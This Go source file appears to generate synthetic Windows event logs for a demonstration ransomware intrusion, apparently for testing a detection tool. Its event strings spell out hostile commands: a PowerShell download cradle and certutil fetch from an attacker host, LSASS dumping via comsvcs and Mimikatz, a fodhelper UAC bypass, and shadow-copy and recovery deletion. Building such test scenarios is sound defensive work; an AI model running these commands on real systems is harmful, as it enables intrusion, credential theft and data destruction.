package demo

import (
	"encoding/base64"
	"fmt"
	"time"
	"unicode/utf16"

	"github.com/bulwarkhq/bulwark/event"
)

const (
	sec = time.Second
	mn  = time.Minute
)

// Paths the scenario uses more than once.
const (
	cmdExe      = `C:\Windows\system32\cmd.exe`
	psExe       = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	netExe      = `C:\Windows\system32\net.exe`
	net1Exe     = `C:\Windows\system32\net1.exe`
	libraries   = `C:\Users\Public\Libraries\`
	implantExe  = libraries + `ctfmon32.exe`
	dumpFile    = libraries + `ls.dmp`
	ransomExe   = `C:\ProgramData\svcupd.exe`
	ransomNote  = `HOW_TO_RESTORE_FILES.txt`
	ransomExt   = ".mudlark"
	sharesRoot  = `D:\Shares\`
	stagingURL  = "http://" + attackerIP + "/b/"
	wmiexecPipe = `\\127.0.0.1\ADMIN$\__`
)

// Scenario returns the events of the demonstration intrusion, ordered by
// time, starting at start (truncated to the microsecond, the precision of
// Windows event times, and converted to UTC). The result depends only on
// start, so a replay is reproducible. Each event's Source is {Path: "demo",
// Format: "demo"} with Record its 1-based position, which is also its line
// in the output of NDJSON.
func Scenario(start time.Time) []event.Event {
	recs := build(start)
	evs := make([]event.Event, len(recs))
	for i := range recs {
		evs[i] = recs[i].ev
	}
	return evs
}

// build writes the whole scenario, every event tagged with its stage.
func build(start time.Time) []rec {
	b := &builder{start: start.UTC().Truncate(time.Microsecond), org: newOrg()}
	implant := b.phishing()
	elevated := b.credentials(implant)
	b.bruteForce(elevated)
	fsShell := b.lateral(elevated)
	b.ransomware(fsShell)
	b.background()
	return b.finish()
}

// encodeCommand renders a script as powershell.exe -EncodedCommand wants
// it: base64 of its UTF-16LE bytes.
func encodeCommand(script string) string {
	u := utf16.Encode([]rune(script))
	raw := make([]byte, 0, 2*len(u))
	for _, c := range u {
		raw = append(raw, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(raw)
}

// phishing: Outlook → Word (macro) → wscript → PowerShell -Enc → download
// cradle → implant. Returns the implant's process.
func (b *builder) phishing() *proc {
	b.stage = stagePhishing
	o := b.org
	attachment := `C:\Users\j.harper\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\4TQ8ZK1B\Booking_Request_Riverside.docm`
	b.createFile(5*sec, o.receptionOutlook, attachment)
	word := b.exec(12*sec, o.receptionOutlook, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "`+attachment+`" /o ""`)
	// The macro writes a JScript file and hands it to the script host, so
	// that Word itself never starts PowerShell.
	script := `C:\Users\j.harper\AppData\Local\Temp\bk_confirm.js`
	b.createFile(52*sec, word, script)
	wscript := b.exec(55*sec, word, `C:\Windows\System32\wscript.exe`, `"C:\Windows\System32\WScript.exe" //B //E:jscript "`+script+`"`)
	cradle := `$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64)');IEX $c.DownloadString('` + stagingURL + `s.ps1')`
	ps := b.exec(58*sec, wscript, psExe, `powershell.exe -NoP -NonI -W Hidden -Enc `+encodeCommand(cradle))
	b.scriptBlock(59*sec, ps, cradle, "3c5e9b1a-7d42-4f0e-a8c6-12b9e0d4f7a3", "")
	b.connect(60*sec, ps, attackerIP, "", 80, 49811)
	// s.ps1, the second stage, fetches the implant and starts it.
	fetch := `$p="$env:PUBLIC\Libraries\ctfmon32.exe";(New-Object Net.WebClient).DownloadFile('` + stagingURL + `c.bin',$p);Start-Process $p -WindowStyle Hidden`
	b.scriptBlock(62*sec, ps, fetch, "9a07c2e4-5b18-4d6f-b3e1-c84f2a6d90b5", "")
	b.connect(63*sec, ps, attackerIP, "", 80, 49812)
	b.createFile(65*sec, ps, implantExe)
	implant := b.spawn(68*sec, ps, proc{image: implantExe, cmd: `"` + implantExe + `"`, cwd: libraries})
	b.connect(70*sec, implant, attackerIP, "", 443, 49815)
	b.connect(2*mn+10*sec, implant, attackerIP, "", 443, 49833)
	return implant
}

// credentials: discovery, a UAC bypass, an LSASS dump and Mimikatz.
// Returns the elevated implant.
func (b *builder) credentials(implant *proc) *proc {
	b.stage = stageCredentials
	o := b.org
	shell := func(at time.Duration, parent *proc, line string) *proc {
		return b.exec(at, parent, cmdExe, `C:\Windows\system32\cmd.exe /C `+line)
	}
	c := shell(5*mn, implant, "whoami /all")
	b.exec(5*mn+sec, c, `C:\Windows\system32\whoami.exe`, "whoami  /all")
	c = shell(5*mn+20*sec, implant, `net group "Domain Admins" /domain`)
	n := b.exec(5*mn+21*sec, c, netExe, `net  group "Domain Admins" /domain`)
	b.exec(5*mn+21*sec+400*time.Millisecond, n, net1Exe, `C:\Windows\system32\net1  group "Domain Admins" /domain`)
	c = shell(5*mn+50*sec, implant, "nltest /dclist:"+DNSDomain)
	b.exec(5*mn+51*sec, c, `C:\Windows\system32\nltest.exe`, "nltest  /dclist:"+DNSDomain)
	c = shell(6*mn+30*sec, implant, "net user adm-tpatel /domain")
	n = b.exec(6*mn+31*sec, c, netExe, "net  user adm-tpatel /domain")
	b.exec(6*mn+31*sec+300*time.Millisecond, n, net1Exe, `C:\Windows\system32\net1  user adm-tpatel /domain`)

	// The receptionist is a local administrator; the fodhelper UAC bypass
	// gets the implant a high-integrity token without a prompt.
	key := `HKU\` + o.harper.sid + `_Classes\ms-settings\Shell\Open\command\`
	b.setRegistry(7*mn+20*sec, implant, key+"(Default)", implantExe)
	b.setRegistry(7*mn+20*sec+100*time.Millisecond, implant, key+"DelegateExecute", "(Empty)")
	fod := b.spawn(7*mn+22*sec, implant, proc{image: `C:\Windows\System32\fodhelper.exe`, cmd: `"C:\Windows\system32\fodhelper.exe" `,
		user: o.harper, logonID: 0x2b4c3a, session: 1, integrity: "High"})
	elevated := b.spawn(7*mn+23*sec, fod, proc{image: implantExe, cmd: implantExe, cwd: libraries})
	b.connect(7*mn+25*sec, elevated, attackerIP, "", 443, 49871)

	// comsvcs.dll's MiniDump export writes lsass's memory to a file.
	lsassPID := o.lsass[o.reception].pid
	dumpCmd := fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d %s full`, lsassPID, dumpFile)
	c = shell(8*mn, elevated, dumpCmd)
	rundll := b.exec(8*mn+sec, c, `C:\Windows\system32\rundll32.exe`, dumpCmd)
	b.accessProcess(8*mn+2*sec, rundll, o.lsass[o.reception], 0x1fffff,
		`C:\Windows\SYSTEM32\ntdll.dll+9f8c4|C:\Windows\System32\KERNELBASE.dll+2d44e|C:\Windows\System32\comsvcs.dll+3a71f|`+
			`C:\Windows\System32\comsvcs.dll+3b2f6|C:\Windows\system32\rundll32.exe+3bc5|C:\Windows\System32\KERNEL32.DLL+17374|C:\Windows\SYSTEM32\ntdll.dll+4cc91`)
	b.createFile(8*mn+4*sec, rundll, dumpFile)

	// Mimikatz, renamed, reads the dump rather than lsass itself.
	mimikatz := libraries + "lsm.exe"
	b.createFile(9*mn+40*sec, elevated, mimikatz)
	args := `"sekurlsa::minidump ` + dumpFile + `" "sekurlsa::logonpasswords" exit`
	c = shell(10*mn, elevated, mimikatz+" "+args+" > "+libraries+"lsm.log")
	b.exec(10*mn+sec, c, mimikatz, mimikatz+"  "+args)
	b.createFile(10*mn+sec, c, libraries+"lsm.log")
	b.connect(10*mn+40*sec, elevated, attackerIP, "", 443, 49902)
	return elevated
}

// bruteForce: guessing the built-in Administrator's password on the domain
// controller over SMB, then spraying one password across many accounts.
func (b *builder) bruteForce(from *proc) {
	b.stage = stageBruteForce
	o := b.org
	b.connect(12*mn, from, o.dc.ip, o.dc.computer(), 445, 50101)
	attempt := func(at time.Duration, u user, i int) {
		b.failedLogon(at, o.dc, logon{user: u, logonType: 3, ip: o.reception.ip, port: fmt.Sprint(50102 + 2*i),
			workstation: o.reception.netbios(), auth: "ntlm"})
	}
	// The built-in Administrator (RID 500) is exempt from lockout, which is
	// why tools target it.
	for i := 0; i < 25; i++ {
		attempt(12*mn+sec+time.Duration(i)*6*sec, adminDomain, i)
	}
	spray := append([]string{o.okafor.name}, o.staff...)
	for i, name := range spray {
		attempt(14*mn+35*sec+time.Duration(i)*6*sec, user{NetBIOSDomain, name, ""}, 25+i)
	}
}

// lateral: RDP to the finance workstation, PsExec to the file server,
// remote WMI with the stolen hash to stage the ransomware. Returns the
// SYSTEM shell PsExec opened on the file server.
func (b *builder) lateral(implant *proc) *proc {
	b.stage = stageLateral
	o := b.org
	fin, fs := o.finance, o.fs

	// RDP from the receptionist's workstation with the cracked password.
	const rdpLogon = 0x5e21a04
	b.connect(17*mn, implant, fin.ip, fin.computer(), 3389, 50244)
	b.loggedOn(17*mn+2*sec, fin, logon{user: o.tpatel, logonType: 10, logonID: rdpLogon, ip: o.reception.ip, port: "0",
		workstation: fin.netbios(), auth: "interactive", linkedID: rdpLogon - 0x3c, elevated: true})
	b.adminPrivileges(17*mn+2*sec, fin, o.tpatel, rdpLogon)
	termsvc := &proc{host: fin, guid: fin.guid(), pid: 1312, image: `C:\Windows\System32\svchost.exe`,
		cmd: `C:\Windows\System32\svchost.exe -k NetworkService -s TermService`, user: networkSvc, logonID: 0x3e4, integrity: "System"}
	rdp := proc{user: o.tpatel, logonID: rdpLogon, session: 2, integrity: "High", cwd: `C:\Users\adm-tpatel\`}
	rdpclip := rdp
	rdpclip.image, rdpclip.cmd = `C:\Windows\System32\rdpclip.exe`, "rdpclip"
	clip := b.spawn(17*mn+15*sec, termsvc, rdpclip)
	userinit := &proc{host: fin, guid: fin.guid(), pid: 6220, image: `C:\Windows\system32\userinit.exe`,
		cmd: `C:\Windows\system32\userinit.exe`, user: o.tpatel, logonID: rdpLogon, session: 2, integrity: "High"}
	shellProc := rdp
	shellProc.image, shellProc.cmd = `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`
	explorer := b.spawn(17*mn+16*sec, userinit, shellProc)

	// PsExec, pasted over the RDP clipboard, opens a SYSTEM shell on fs01.
	psexec := `C:\Users\adm-tpatel\Desktop\PsExec64.exe`
	b.createFile(18*mn+40*sec, clip, psexec)
	cmd := b.exec(18*mn+50*sec, explorer, cmdExe, `"C:\Windows\system32\cmd.exe" `)
	px := b.exec(19*mn, cmd, psexec, psexec+` \\`+fs.computer()+` -accepteula -s cmd.exe`)
	b.connect(19*mn+sec, px, fs.ip, fs.computer(), 445, 50301)
	const psexecLogon = 0x9c4e21
	b.loggedOn(19*mn+2*sec, fs, logon{user: o.tpatel, logonType: 3, logonID: psexecLogon, ip: fin.ip, port: "50301",
		workstation: "-", auth: "kerberos", elevated: true})
	b.adminPrivileges(19*mn+2*sec, fs, o.tpatel, psexecLogon)
	kernel := &proc{host: fs, guid: fs.guid(), pid: 4, image: "System", cmd: "", user: systemUser, logonID: 0x3e7, integrity: "System"}
	b.createFile(19*mn+2*sec+300*time.Millisecond, kernel, `C:\Windows\PSEXESVC.exe`)
	b.setRegistry(19*mn+3*sec, o.fsServices, `HKLM\System\CurrentControlSet\Services\PSEXESVC\ImagePath`, `%SystemRoot%\PSEXESVC.exe`)
	b.serviceInstalled(19*mn+3*sec, fs, o.tpatel, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start")
	svc := b.exec(19*mn+3*sec+200*time.Millisecond, o.fsServices, `C:\Windows\PSEXESVC.exe`, `C:\Windows\PSEXESVC.exe`)
	for _, end := range []string{"stdin", "stdout", "stderr"} {
		b.createPipe(19*mn+4*sec, svc, fmt.Sprintf(`\PSEXESVC-%s-%d-%s`, fin.netbios(), px.pid, end))
	}
	fsShell := b.exec(19*mn+5*sec, svc, cmdExe, `"cmd.exe" `)
	n := b.exec(19*mn+40*sec, fsShell, netExe, "net  share")
	b.exec(19*mn+40*sec+200*time.Millisecond, n, net1Exe, `C:\Windows\system32\net1  share`)

	// Remote WMI in the style of impacket's wmiexec, tunnelled through the
	// implant and authenticated with the stolen NTLM hash: each command is
	// a cmd.exe under WmiPrvSE whose output goes to a file on ADMIN$.
	const wmiLogon = 0x9d1f77
	b.connect(21*mn+30*sec, implant, fs.ip, fs.computer(), 135, 50388)
	b.loggedOn(21*mn+31*sec, fs, logon{user: o.tpatel, logonType: 3, logonID: wmiLogon, ip: o.reception.ip, port: "50389",
		workstation: "-", auth: "ntlm", elevated: true})
	b.adminPrivileges(21*mn+31*sec, fs, o.tpatel, wmiLogon)
	out := fmt.Sprintf("%s%d.%d", wmiexecPipe, b.start.Add(21*mn+32*sec).Unix(), 4271)
	wmi := proc{image: cmdExe, user: o.tpatel, logonID: wmiLogon, session: 0, integrity: "High", cwd: `C:\`}
	for i, line := range []string{`cd \`, `dir D:\Shares`} {
		wmi.cmd = `cmd.exe /Q /c ` + line + ` 1> ` + out + ` 2>&1`
		b.spawn(21*mn+33*sec+time.Duration(i)*40*sec, o.fsWmiPrvSE, wmi)
	}
	url := stagingURL + "svcupd.bin"
	wmi.cmd = `cmd.exe /Q /c certutil.exe -urlcache -split -f ` + url + ` ` + ransomExe + ` 1> ` + out + ` 2>&1`
	c := b.spawn(23*mn, o.fsWmiPrvSE, wmi)
	cu := b.exec(23*mn+sec, c, `C:\Windows\system32\certutil.exe`, `certutil.exe  -urlcache -split -f `+url+` `+ransomExe)
	b.connect(23*mn+2*sec, cu, attackerIP, "", 80, 50412)
	b.createFile(23*mn+5*sec, cu, ransomExe)
	return fsShell
}

// shares are the file server's folders and some of the files in each, which
// the ransomware encrypts.
var shares = []struct {
	dir   string
	files []string
}{
	{`Finance\2026\Q1`, []string{"Q1_Forecast.xlsx", "Supplier_Invoices_Jan.pdf", "Supplier_Invoices_Feb.pdf", "VAT_Return_Q1.xlsx", "Cashflow.xlsx", "Bank_Reconciliation.xlsx"}},
	{`Finance\Payroll`, []string{"Payroll_2026-01.csv", "Payroll_2026-02.csv", "Payroll_2026-03.csv", "Pension_Contributions.xlsx", "Overtime_Approvals.docx", "P60_Batch.zip"}},
	{`HR\Contracts`, []string{"Contract_Template_2026.docx", "Staff_Handbook.pdf", "Holiday_Planner.xlsx", "Disciplinary_Policy.docx", "Onboarding_Checklist.docx", "Org_Chart.vsdx"}},
	{`Reception\Bookings`, []string{"Bookings_March.xlsx", "Bookings_April.xlsx", "Room_Rates_2026.pdf", "Group_Enquiries.docx", "Cancellations.xlsx", "Guest_Feedback.xlsx"}},
	{`Management\Board`, []string{"Board_Minutes_Feb.docx", "Board_Pack_Q1.pptx", "Strategy_2026-2028.pptx", "Insurance_Renewal.pdf", "Risk_Register.xlsx", "Budget_2026.xlsx"}},
	{`Projects\Marina-Extension`, []string{"Site_Survey.pdf", "Planning_Application.pdf", "Contractor_Quotes.xlsx", "Floor_Plans.dwg", "Project_Plan.mpp", "Photos.zip"}},
	{`IT\Documentation`, []string{"Network_Diagram.vsdx", "Firewall_Rules.xlsx", "Backup_Schedule.docx", "Licences.xlsx", "Server_Build.docx", "Wifi_Setup.pdf"}},
	{`Public\Templates`, []string{"Letterhead.dotx", "Fax_Cover.docx", "Expense_Claim.xlsx", "Timesheet.xlsx", "Logo.png", "Brand_Guide.pdf"}},
}

// ransomware: recovery sabotage, then encryption of the shares.
func (b *builder) ransomware(fsShell *proc) {
	b.stage = stageRansomware
	rw := b.exec(27*mn, fsShell, ransomExe, ransomExe+` --path `+sharesRoot+` --silent`)
	// Each step is one cmd.exe /c line running one or two tools.
	sabotage := []struct {
		at    time.Duration
		tools [][2]string // image, command line
	}{
		{4 * sec, [][2]string{{`C:\Windows\system32\vssadmin.exe`, "vssadmin.exe delete shadows /all /quiet"}}},
		{7 * sec, [][2]string{{`C:\Windows\System32\wbem\WMIC.exe`, "wmic.exe shadowcopy delete /nointeractive"}}},
		{10 * sec, [][2]string{
			{`C:\Windows\system32\bcdedit.exe`, "bcdedit.exe /set {default} recoveryenabled No"},
			{`C:\Windows\system32\bcdedit.exe`, "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"},
		}},
		{14 * sec, [][2]string{{`C:\Windows\system32\wbadmin.exe`, "wbadmin.exe delete catalog -quiet"}}},
	}
	for _, s := range sabotage {
		line := ""
		for i, t := range s.tools {
			if i > 0 {
				line += " & "
			}
			line += t[1]
		}
		c := b.exec(27*mn+s.at, rw, cmdExe, `C:\Windows\system32\cmd.exe /c `+line)
		for i, t := range s.tools {
			b.exec(27*mn+s.at+time.Duration(i+1)*sec, c, t[0], t[1])
		}
	}
	// Encryption: a note first in each folder, then each file written anew
	// under the new extension (the original is overwritten and deleted).
	at := 27*mn + 30*sec
	for _, sh := range shares {
		dir := sharesRoot + sh.dir + `\`
		b.createFile(at, rw, dir+ransomNote)
		at += 10 * sec
		for _, f := range sh.files {
			b.createFile(at, rw, dir+f+ransomExt)
			at += 10 * sec
		}
	}
	note := `C:\Users\Public\Desktop\` + ransomNote
	b.createFile(at, rw, note)
	b.exec(at+2*sec, rw, `C:\Windows\system32\notepad.exe`, `"C:\Windows\system32\NOTEPAD.EXE" `+note)
}

// background is the ordinary activity of the office, which must raise no
// alert: people opening documents and browsing, Kerberos tickets, a
// mistyped password, a scheduled maintenance script, an updater's service,
// Defender scanning lsass.
func (b *builder) background() {
	b.stage = stageBackground
	o := b.org
	fin, rec, fs := o.finance, o.reception, o.fs

	b.ticketGranted(15*sec, o.okafor, fin, 50012)
	b.serviceTicket(18*sec, o.okafor, fin, fs, 50013)
	b.loggedOn(20*sec, fs, logon{user: o.okafor, logonType: 3, logonID: 0x7a1c02, ip: fin.ip, port: "50014", workstation: "-", auth: "kerberos"})
	b.exec(21*sec, o.financeExplorer, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`,
		`"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "\\fs01\Finance\2026\Q1\Q1_Forecast.xlsx"`)
	b.exec(1*mn+40*sec, o.receptionExplorer, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument https://intranet.riverside.local/rota`)

	// The accountant mistypes her password at the lock screen, then gets it right.
	b.failedLogon(4*mn, fin, logon{user: o.okafor, logonType: 7, ip: "127.0.0.1", port: "0", workstation: fin.netbios(), auth: "interactive"})
	b.loggedOn(4*mn+6*sec, fin, logon{user: o.okafor, logonType: 7, logonID: 0x31b9d0, ip: "127.0.0.1", port: "0", workstation: fin.netbios(), auth: "interactive"})

	// The nightly-style disk check the IT administrator scheduled on fs01.
	task := b.exec(6*mn, o.fsSchedule, psExe, `powershell.exe -NoProfile -NonInteractive -File C:\Scripts\Check-DiskSpace.ps1`)
	b.scriptBlock(6*mn+sec, task, "Get-Volume | Where-Object { $_.DriveLetter -and $_.SizeRemaining -lt 20GB } |\n"+
		"    Select-Object DriveLetter, FileSystemLabel, SizeRemaining |\n"+
		"    Export-Csv -NoTypeInformation -Path C:\\Scripts\\Logs\\diskspace.csv",
		"e1b4d0a2-96c3-4a7f-8d25-3f0c7b9e1a64", `C:\Scripts\Check-DiskSpace.ps1`)
	b.createFile(6*mn+2*sec, task, `C:\Scripts\Logs\diskspace.csv`)

	b.exec(13*mn+10*sec, o.financeExplorer, `C:\Program Files\Google\Chrome\Application\chrome.exe`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" `)
	b.loggedOn(20*mn, o.dc, logon{user: user{NetBIOSDomain, fs.machineAccount(), domainSID + "-1104"}, logonType: 3, logonID: 0x1c44a1f,
		ip: fs.ip, port: "50561", workstation: "-", auth: "kerberos"})
	// Chrome's updater registers its elevation service.
	b.serviceInstalled(24*mn, fin, systemUser, "Google Chrome Elevation Service (GoogleChromeElevationService)",
		`"C:\Program Files\Google\Chrome\Application\131.0.6778.140\elevation_service.exe"`, "demand start")
	// Defender opens lsass with full rights when it scans it.
	defender := &proc{host: fs, guid: fs.guid(), pid: 3208, image: `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`,
		user: systemUser, logonID: 0x3e7, integrity: "System"}
	b.accessProcess(26*mn, defender, o.lsass[fs], 0x1fffff,
		`C:\Windows\SYSTEM32\ntdll.dll+a0574|C:\Windows\System32\KERNELBASE.dll+7a6e|C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\mpsvc.dll+1c3a2e`)
	b.serviceTicket(31*mn, o.harper, rec, fs, 50710)
	b.loggedOn(31*mn+sec, fs, logon{user: o.harper, logonType: 3, logonID: 0x7b3e55, ip: rec.ip, port: "50711", workstation: "-", auth: "kerberos"})
	b.exec(33*mn, o.financeExplorer, `C:\Windows\system32\notepad.exe`, `"C:\Windows\system32\NOTEPAD.EXE" C:\Users\d.okafor\Desktop\todo.txt`)
	b.ticketGranted(39*mn, o.harper, rec, 50802)
}
